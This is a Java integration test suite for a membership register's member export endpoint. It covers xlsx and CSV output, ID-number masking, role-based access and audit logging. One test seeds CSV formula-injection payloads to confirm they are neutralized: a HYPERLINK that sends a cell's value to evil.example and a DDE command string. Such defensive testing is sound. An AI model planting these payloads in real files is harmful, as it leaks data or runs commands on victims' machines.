package vn.party.membership.member.exchange;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static vn.party.membership.member.exchange.MemberFiles.HEADERS;
import static vn.party.membership.member.exchange.MemberFiles.nationalId;
import static vn.party.membership.member.exchange.MemberFiles.row;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

import jakarta.inject.Inject;
import jakarta.persistence.EntityManager;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.oidc.server.OidcWiremockTestResource;
import io.restassured.response.Response;

import vn.party.testsupport.PostgresTestResource;
import vn.party.testsupport.TestTokens;

@QuarkusTest
@QuarkusTestResource(PostgresTestResource.class)
@QuarkusTestResource(OidcWiremockTestResource.class)
class MemberExportApiTest {

    private static final String EXPORT = "/api/membership/members/export";

    @Inject
    EntityManager entityManager;

    private UUID bloc;
    private UUID grassroots;
    private UUID cell;
    private String cellCode;
    private String anCccd;
    private String binhCccd;

    @BeforeEach
    void members() {
        String suffix = UUID.randomUUID().toString().substring(0, 8);
        bloc = MemberFiles.organization("K-" + suffix, "Đảng bộ Khối", "BLOC_COMMITTEE", null);
        grassroots = MemberFiles.organization("G-" + suffix, "Đảng bộ Sở Tài chính", "GRASSROOTS_COMMITTEE", bloc);
        cellCode = "C-" + suffix;
        cell = MemberFiles.organization(cellCode, "Chi bộ Phòng Ngân sách", "SUBORDINATE_CELL", grassroots);
        anCccd = nationalId();
        binhCccd = nationalId();
        List<List<String>> rows = List.of(row(1, "Trần Thị Bình", "Nữ", binhCccd), row(2, "Nguyễn Văn An", "Nam", anCccd),
                row(3, "Lê Văn Cường", "Nam", nationalId()));
        given().auth().oauth2(TestTokens.blocAdmin())
                .multiPart("file", "m.csv", MemberFiles.csv(',', false, HEADERS, rows), "text/csv")
                .queryParam("organizationId", cell.toString())
                .when().post("/api/membership/members/imports").then().statusCode(200).body("imported", equalTo(3));
    }

    @Test
    void blocAdminGetsAnXlsxOfEveryMatchingMemberWithFullCccdInListOrder() throws IOException {
        Response response = given().auth().oauth2(TestTokens.blocAdmin())
                .queryParam("organizationId", cell.toString())
                .queryParam("size", 1) // paging parameters do not cut an export
                .when().get(EXPORT);
        response.then().statusCode(200)
                .contentType("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
                .header("Content-Disposition", containsString("filename=\"danh-sach-dang-vien-"))
                .header("Content-Disposition", containsString(".xlsx\""))
                .header("Content-Disposition", containsString("filename*=UTF-8''danh-s%C3%A1ch-%C4%91%E1%BA%A3ng-vi%C3%AAn-"));

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(response.asByteArray()))) {
            Sheet sheet = workbook.getSheetAt(0);
            DataFormatter formatter = new DataFormatter();
            List<String> header = cells(sheet.getRow(0), formatter);
            assertEquals(List.of("STT", "Họ và tên", "Giới tính", "Ngày sinh", "Dân tộc", "Tôn giáo", "Quê quán",
                    "Số CCCD", "Số thẻ đảng", "Điện thoại", "Trình độ học vấn", "Lý luận chính trị", "Chức vụ",
                    "Cơ quan, đơn vị", "Ngày quyết định kết nạp", "Ngày vào Đảng", "Ngày chính thức", "Tình trạng",
                    "Mã tổ chức", "Tên tổ chức"), header);
            assertEquals(3, sheet.getLastRowNum());
            // Vietnamese order: by given name An, Bình, Cường
            List<String> an = cells(sheet.getRow(1), formatter);
            assertEquals("Nguyễn Văn An", an.get(1));
            assertEquals("Nam", an.get(2));
            assertEquals("12/04/1985", an.get(3));
            assertEquals(anCccd, an.get(7));
            assertEquals("19/05/2010", an.get(15));
            assertEquals("Chính thức", an.get(17));
            assertEquals(cellCode, an.get(18));
            assertEquals("Chi bộ Phòng Ngân sách", an.get(19));
            assertEquals("Trần Thị Bình", cells(sheet.getRow(2), formatter).get(1));
            assertEquals("Lê Văn Cường", cells(sheet.getRow(3), formatter).get(1));
        }
        Object[] audit = QuarkusTransaction.requiringNew().call(() -> (Object[]) entityManager.createNativeQuery(
                        "SELECT actor, changes::text FROM audit_log WHERE action = 'EXPORT' AND entity_id = :id"
                                + " ORDER BY id DESC")
                .setParameter("id", cell.toString()).setMaxResults(1).getSingleResult());
        assertEquals("admin", audit[0]);
        assertTrue(audit[1].toString().matches(".*\"rows\": ?\\{[^}]*\"after\": ?3[,}].*"), audit[1].toString());
        assertTrue(audit[1].toString().contains("xlsx"));
    }

    /** Issue 11, point 7: a value typed as a formula comes out as text, in CSV and in xlsx. */
    @Test
    void cellsThatExcelWouldRunAsFormulasAreNeutralized() throws IOException {
        List<String> evil = row(1, "Đinh Văn Mạnh", "Nam", nationalId());
        evil.set(12, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")");
        evil.set(13, "@SUM(1+1)*cmd|' /C calc'!A0");
        evil.set(6, "-2+3");
        given().auth().oauth2(TestTokens.blocAdmin())
                .multiPart("file", "m.csv", MemberFiles.csv(',', false, HEADERS, List.of(evil)), "text/csv")
                .queryParam("organizationId", cell.toString())
                .when().post("/api/membership/members/imports").then().statusCode(200).body("imported", equalTo(1));

        Response csv = given().auth().oauth2(TestTokens.blocAdmin()).queryParam("format", "csv")
                .queryParam("organizationId", cell.toString()).queryParam("q", "dinh van manh").when().get(EXPORT);
        csv.then().statusCode(200);
        byte[] body = csv.asByteArray();
        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(
                new String(body, 3, body.length - 3, StandardCharsets.UTF_8))).getRecords();
        assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")", records.get(1).get(12));
        assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", records.get(1).get(13));
        assertEquals("'-2+3", records.get(1).get(6));
        assertEquals("0912345678", records.get(1).get(9));

        Response xlsx = given().auth().oauth2(TestTokens.blocAdmin())
                .queryParam("organizationId", cell.toString()).queryParam("q", "dinh van manh").when().get(EXPORT);
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx.asByteArray()))) {
            var jobTitle = workbook.getSheetAt(0).getRow(1).getCell(12);
            assertEquals(org.apache.poi.ss.usermodel.CellType.STRING, jobTitle.getCellType());
            assertTrue(jobTitle.getStringCellValue().startsWith("'="), jobTitle.getStringCellValue());
        }
    }

    @Test
    void secretaryGetsAFilteredCsvWithMaskedCccd() throws IOException {
        Response response = given().auth().oauth2(TestTokens.secretary(grassroots))
                .queryParam("format", "csv")
                .queryParam("gender", "FEMALE")
                .when().get(EXPORT);
        response.then().statusCode(200)
                .contentType(containsString("text/csv"))
                .header("Content-Disposition", containsString(".csv\""));
        byte[] body = response.asByteArray();
        assertEquals((byte) 0xEF, body[0], "UTF-8 byte-order mark for Excel");
        String text = new String(body, 3, body.length - 3, StandardCharsets.UTF_8);
        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(text)).getRecords();
        assertEquals(2, records.size(), text);
        assertEquals("Họ và tên", records.get(0).get(1));
        assertEquals("Số CCCD", records.get(0).get(7));
        assertEquals("Trần Thị Bình", records.get(1).get(1));
        assertEquals("Nữ", records.get(1).get(2));
        assertEquals("12/04/1985", records.get(1).get(3));
        assertEquals(binhCccd.substring(0, 3) + "******" + binhCccd.substring(9), records.get(1).get(7));
        assertEquals("Sở Giao thông vận tải, Văn phòng", records.get(1).get(13));
    }

    @Test
    void inspectorMayExportWithinScopeOthersMayNot() {
        given().auth().oauth2(TestTokens.inspector(bloc)).queryParam("format", "csv")
                .queryParam("organizationId", cell.toString())
                .when().get(EXPORT).then().statusCode(200);
        UUID otherCell = MemberFiles.organization("O-" + UUID.randomUUID().toString().substring(0, 8),
                "Chi bộ Sở Nội vụ", "GRASSROOTS_CELL", bloc);
        given().auth().oauth2(TestTokens.secretary(otherCell)).queryParam("organizationId", cell.toString())
                .when().get(EXPORT).then().statusCode(403).contentType("application/problem+json");
        given().auth().oauth2(TestTokens.member(cell, UUID.randomUUID())).when().get(EXPORT).then().statusCode(403);
        given().auth().oauth2(TestTokens.integration(bloc)).when().get(EXPORT).then().statusCode(403);
        given().auth().oauth2(TestTokens.blocAdmin()).queryParam("format", "pdf").when().get(EXPORT)
                .then().statusCode(400).body("errors[0].field", equalTo("format"));
        given().when().get(EXPORT).then().statusCode(401);
    }

    @Test
    void anExportedXlsxImportsAgain() {
        byte[] file = given().auth().oauth2(TestTokens.blocAdmin()).queryParam("organizationId", cell.toString())
                .when().get(EXPORT).then().statusCode(200).extract().asByteArray();
        // same members: every CCCD is taken, so a dry run reports each row against the register
        given().auth().oauth2(TestTokens.blocAdmin()).contentType(MemberExchangeResource.XLSX).body(file)
                .queryParam("dryRun", true)
                .when().post("/api/membership/members/imports")
                .then().statusCode(200)
                .body("totalRows", equalTo(3))
                .body("invalidRows", equalTo(3))
                .body("errors.field", org.hamcrest.Matchers.everyItem(equalTo("nationalId")))
                .body("ignoredColumns", org.hamcrest.Matchers.contains("STT", "Tên tổ chức"));
    }

    private static List<String> cells(Row row, DataFormatter formatter) {
        List<String> values = new ArrayList<>();
        for (int c = 0; c < row.getLastCellNum(); c++) {
            values.add(formatter.formatCellValue(row.getCell(c)));
        }
        return values;
    }
}
